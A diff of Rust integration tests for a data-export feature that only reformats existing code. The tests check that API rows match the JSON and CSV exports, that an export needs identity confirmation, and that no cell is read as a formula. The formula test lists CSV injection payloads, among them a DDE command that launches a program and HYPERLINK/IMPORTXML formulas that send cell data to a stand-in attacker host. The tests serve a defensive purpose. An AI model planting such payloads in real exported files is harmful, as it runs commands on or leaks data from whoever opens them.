@@ -41,7 +41,8 @@ async fn it_has_the_rows_of_the_api_in_both_formats() {
             for (name, _) in LISTS {
                 let key = if *name == "reactions" { "recognition" } else { "id" };
                 let api_key = if *name == "reactions" { "recognitionId" } else { "id" };
-                let api: Vec<String> = fields_of(&person, name).await.iter().map(|n| text(&n[api_key])).collect();
+                let api: Vec<String> =
+                    fields_of(&person, name).await.iter().map(|n| text(&n[api_key])).collect();
                 let in_json: Vec<String> =
                     whole["lists"][name].as_array().expect("a list").iter().map(|r| text(&r[key])).collect();
                 let in_csv: Vec<String> = lines
@@ -93,9 +94,22 @@ async fn no_cell_is_a_formula() {
         let feed = larch.all("recognitions", "id").await;
         let id = text(&feed[0]["id"]);
         let payloads = [
-            "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
-            "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/\"&A1,\"see\")", "  =1+1", "\n=1+1",
-            "=IMPORTXML(\"http://evil.example/\",\"//a\")", "=\"a\"\"b\";=1+1,=2",
+            "=1+1",
+            "+1+1",
+            "-1+1",
+            "@SUM(1+1)",
+            "\t=1+1",
+            "\r=1+1",
+            "＝1+1",
+            "＋1",
+            "－1",
+            "＠SUM(1)",
+            "=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/\"&A1,\"see\")",
+            "  =1+1",
+            "\n=1+1",
+            "=IMPORTXML(\"http://evil.example/\",\"//a\")",
+            "=\"a\"\"b\";=1+1,=2",
         ];
         for payload in payloads {
             larch.does("comment", json!({"recognitionId": id, "text": format!("{payload} x")})).await;
@@ -128,7 +142,10 @@ async fn it_asks_who_is_there_and_leaves_no_file() {
         script.may_not("exportMyData", json!({"format": "JSON"})).await.is("FORBIDDEN");
         let folder = server.place().folder();
         let files = || -> BTreeSet<_> {
-            std::fs::read_dir(&folder).expect("the folder").map(|e| e.expect("an entry").file_name()).collect()
+            std::fs::read_dir(&folder)
+                .expect("the folder")
+                .map(|e| e.expect("an entry").file_name())
+                .collect()
         };
         let before = files();
         larch.does("confirmIdentity", json!({"password": "upheld-demo"})).await;
